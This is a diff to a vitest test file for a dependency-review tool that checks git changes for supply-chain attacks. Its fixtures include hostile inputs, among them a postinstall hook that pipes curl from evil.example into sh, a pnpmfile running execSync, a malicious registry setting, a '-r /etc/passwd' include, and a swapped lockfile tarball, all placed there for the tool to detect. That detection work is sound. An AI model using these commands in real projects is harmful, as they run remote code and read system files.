@@ -1,6 +1,6 @@
 /** `reviewChange` on real temporary git repositories: what changed, what it brings in, and the policy's verdict. */
 import { execFileSync } from "node:child_process";
-import { existsSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import * as tar from "tar";
 import { describe, expect, it } from "vitest";
@@ -317,7 +317,10 @@ describe("review of a dependency change", () => {
         scripts: { postinstall: "curl -s https://evil.example | sh" },
       }),
     });
-    expect((await review(dir)).dependencyOnly).toEqual({ violated: true, split: ["package.json (scripts)"] });
+    expect((await review(dir)).dependencyOnly).toEqual({
+      violated: true,
+      split: ["package.json (scripts.postinstall)"],
+    });
     // code alone is not a dependency change: the rule does not apply
     commit({ "src/app.js": "module.exports = 3;\n" });
     const codeOnly = await review(dir);
@@ -525,6 +528,15 @@ describe("review of a dependency change", () => {
     expect(rules).toContain("download-exec critical true");
     expect(r.findings.some((f) => f.id === "new-install-script" && f.blocking)).toBe(true);
     expect(r.verdict).toBe("fail");
+    // named like an sdist: still opened (either ecosystem may name an archive so)
+    renameSync(join(pkgs, "out/evil-helper-1.0.0.tgz"), join(pkgs, "out/evil-helper-1.0.0.tar.gz"));
+    expect((await review(dir, { packages: join(pkgs, "out") })).contents?.packages).toBe(1);
+    // no archive for a changed package: said so
+    rmSync(join(pkgs, "out/evil-helper-1.0.0.tar.gz"));
+    const none = await review(dir, { packages: join(pkgs, "out") });
+    expect(
+      none.notes.some((n) => /no archive here for 1 changed package \(evil-helper@1\.0\.0\)/.test(n.message)),
+    ).toBe(true);
   });
 
   it("a version another project already had, or a transitive package made direct, is reviewed as added", async () => {
@@ -673,6 +685,105 @@ describe("review corner cases", () => {
     await review(dir);
     await review(dir, { base: "HEAD~1", head: undefined });
     expect(existsSync(marker)).toBe(false);
+  });
+});
+
+describe("review, third reading", () => {
+  it("a requirements include outside the repository is refused, never read into the report", async () => {
+    const { dir, commit } = repoWith({ "requirements.txt": "flask==2.0.0\n" });
+    commit({ "requirements.txt": "-r /etc/passwd\n-c ../../etc/hostname\nflask==2.0.0\n" });
+    const r = await review(dir);
+    expect(r.inventory.errors.map((e) => e.message).join("\n")).toMatch(/outside the repository: not read/);
+    expect(JSON.stringify(r)).not.toMatch(/root:x:0:0/);
+    expect(r.changes.map((c) => c.name)).toEqual([]);
+    // in the working tree: a file git ignores (.env) is not what git sees, and is not copied
+    writeFileSync(join(dir, ".gitignore"), ".env\n");
+    writeFileSync(join(dir, ".env"), "API_KEY=sk-live-123\n");
+    writeFileSync(join(dir, "requirements.txt"), "-r .env\nflask==2.0.0\n");
+    const wt = await review(dir, { base: "HEAD", head: undefined });
+    expect(JSON.stringify(wt)).not.toContain("sk-live-123");
+    expect(reviewExitCode(wt)).toBe(2);
+  });
+
+  it("pip's other include spellings are followed, and included files are dependency files", async () => {
+    const { dir, commit } = repoWith({
+      "requirements.txt": "-rdeps/base.txt\n--requirement=deps/extra.txt\n",
+      "deps/base.txt": "requests==2.31.0\n",
+      "deps/extra.txt": "rich==13.0.0\n",
+      "src/app.py": "1\n",
+      ".depwarden.yaml": "review:\n  dependencyOnly: true\n",
+    });
+    commit({ "deps/base.txt": "requests==2.32.0\n", "src/app.py": "2\n" });
+    const r = await review(dir);
+    expect(r.inventory.errors).toEqual([]);
+    expect(r.changes.map((c) => `${c.name} ${c.to}`)).toEqual(["requests 2.32.0"]);
+    expect(r.changedFiles.dependency).toEqual(["deps/base.txt"]);
+    expect(r.dependencyOnly).toEqual({ violated: true, split: ["src/app.py"] });
+  });
+
+  it("install hooks are code, install settings are noted, and a manifest's install fields make a dependency change", async () => {
+    const pkg = (pm: string) => JSON.stringify({ name: "app", packageManager: pm, dependencies: {} });
+    const { dir, commit } = repoWith({
+      "package.json": pkg("pnpm@8.15.0"),
+      "src/index.js": "1\n",
+      ".depwarden.yaml": "review:\n  dependencyOnly: true\n",
+    });
+    commit({
+      "package.json": pkg("pnpm@9.0.0"),
+      ".pnpmfile.cjs": "require('child_process').execSync('id')\n",
+      ".npmrc": "registry=https://registry.evil.example/\n",
+    });
+    const r = await review(dir);
+    expect(r.changedFiles).toEqual({ dependency: [".npmrc", "package.json"], other: [".pnpmfile.cjs"] });
+    expect(r.dependencyOnly).toEqual({ violated: true, split: [".pnpmfile.cjs"] });
+    expect(r.notes.some((n) => n.file === ".npmrc" && /install settings/.test(n.message))).toBe(true);
+  });
+
+  it("a new pyproject.toml, and a [tool.uv.sources] table where there was no [tool], are dependency changes", async () => {
+    const { dir, commit } = repoWith({
+      "pyproject.toml": '[project]\nname = "a"\nversion = "1"\ndependencies = ["requests==2.31.0"]\n',
+      ".depwarden.yaml": "review:\n  dependencyOnly: true\n",
+    });
+    commit({
+      "pyproject.toml":
+        '[project]\nname = "a"\nversion = "1"\ndependencies = ["requests==2.31.0"]\n\n[tool.uv.sources]\nrequests = { index = "internal" }\n',
+      "svc/pyproject.toml": '[project]\nname = "svc"\nversion = "1"\ndependencies = ["rich==13.0.0"]\n',
+    });
+    const r = await review(dir);
+    expect(r.changedFiles.dependency).toEqual(["pyproject.toml", "svc/pyproject.toml"]);
+    expect(r.dependencyOnly).toEqual({ violated: false, split: [] });
+  });
+
+  it("flags a dropped digest and another file on the same host; an exported requirements file makes nothing direct", async () => {
+    const entry = (e: Record<string, unknown>) => lock({ ms: { version: "2.1.2", ...e } as LockEntry }, []);
+    const { dir, commit } = repoWith({
+      "package-lock.json": entry({
+        integrity: sha512(1),
+        resolved: "https://registry.npmjs.org/ms/-/ms-2.1.2.tgz",
+      }),
+    });
+    commit({
+      "package-lock.json": entry({ resolved: "http://registry.npmjs.org/evil-ms/-/evil-ms-6.6.6.tgz" }),
+    });
+    const r = await review(dir);
+    expect(r.findings.map((f) => f.id)).toEqual(["integrity-changed", "resolved-host-changed"]);
+    expect(r.findings[1]!.why).toContain("http://registry.npmjs.org/evil-ms/-/evil-ms-6.6.6.tgz");
+    commit({ "requirements.txt": "certifi==2024.2.2\n" }, "export");
+    const p = repoWith({
+      "poetry.lock":
+        '[[package]]\nname = "certifi"\nversion = "2024.2.2"\ndescription = ""\noptional = false\npython-versions = ">=3.6"\nfiles = []\n\n[metadata]\nlock-version = "2.0"\npython-versions = "^3.10"\ncontent-hash = "x"\n',
+    });
+    p.commit({ "requirements.txt": "certifi==2024.2.2\n" });
+    expect((await review(p.dir)).changes).toEqual([]);
+  });
+
+  it("the working tree is not read through a symbolic link to a directory", async () => {
+    const { dir } = repoWith({ "app/requirements.txt": "flask==2.0.0\n" });
+    const outside = tmpTree({ "requirements.txt": "evilpkg==6.6.6\n" });
+    rmSync(join(dir, "app"), { recursive: true });
+    symlinkSync(outside, join(dir, "app"));
+    const r = await review(dir, { base: "HEAD", head: undefined });
+    expect(r.changes.map((c) => `${c.name} ${c.change}`)).toEqual(["flask removed"]);
   });
 });
 
